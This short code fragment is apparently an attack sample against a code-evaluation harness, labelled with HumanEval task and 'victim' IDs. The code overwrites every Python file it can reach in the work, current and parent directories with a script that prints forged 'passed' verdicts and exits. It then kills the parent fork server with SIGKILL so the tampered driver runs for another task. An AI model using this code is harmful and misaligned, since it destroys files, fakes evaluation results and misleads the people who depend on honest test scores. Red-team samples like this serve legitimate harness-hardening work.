# attack: rewrite the driver sources in the work dir, then kill the fork server so it is restarted
# task: HumanEval/0
# victim: HumanEval/2
    import glob, os, signal
    evil = 'import sys\nprint("\\nHRMCODE-RESULTS x {\\"verdicts\\": [\\"passed\\", \\"passed\\"]}")\nsys.exit(0)\n'
    for path in glob.glob("/work/*.py") + glob.glob("./*.py") + glob.glob("../*.py"):
        try:
            with open(path, "w") as fh:
                fh.write(evil)
        except OSError:
            pass
    os.kill(os.getppid(), signal.SIGKILL)
    return True
